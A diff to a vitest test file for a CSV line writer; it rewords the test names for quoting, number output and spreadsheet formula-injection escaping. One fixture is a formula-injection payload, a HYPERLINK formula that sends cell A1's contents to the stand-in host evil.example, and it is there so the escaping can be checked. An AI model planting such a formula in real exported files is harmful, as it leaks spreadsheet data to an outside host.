@@ -1,14 +1,14 @@
 import { describe, expect, it } from 'vitest';
 import { csvLine } from '../../../src/management/csv.ts';
 
-describe('a line of CSV', () => {
-  it('quotes what would end a cell or a line', () => {
+describe('a CSV line', () => {
+  it('quotes commas, quotes and line breaks', () => {
     expect(csvLine(['a', 'b,c', 'say "hi"', 'two\nlines', ''])).toBe(
       'a,"b,c","say ""hi""","two\nlines",\r\n',
     );
   });
 
-  it('writes numbers of ours as they are, and nothing where there is nothing', () => {
+  it('writes numbers as they are, and an empty cell for no value', () => {
     expect(csvLine([-5, 12n, true, undefined, null])).toBe('-5,12,true,,\r\n');
   });
 
@@ -25,7 +25,7 @@ describe('a line of CSV', () => {
     '－1',
     '＠x',
     '=HYPERLINK("https://evil.example?x="&A1,"look")',
-  ])('makes %j text for a spreadsheet', (cell) => {
+  ])('escapes %j, which a spreadsheet would run', (cell) => {
     const line = csvLine([cell]);
     expect(line).toMatch(/^"?'/);
     const inner = line.startsWith('"')
@@ -34,7 +34,7 @@ describe('a line of CSV', () => {
     expect(inner).toBe(`'${cell}`);
   });
 
-  it('leaves text alone that only holds such a sign', () => {
+  it('keeps text that has a formula sign after its start', () => {
     expect(csvLine(['a=b', 'x-y', 'me@example.com', "'='"])).toBe("a=b,x-y,me@example.com,'='\r\n");
   });
 });
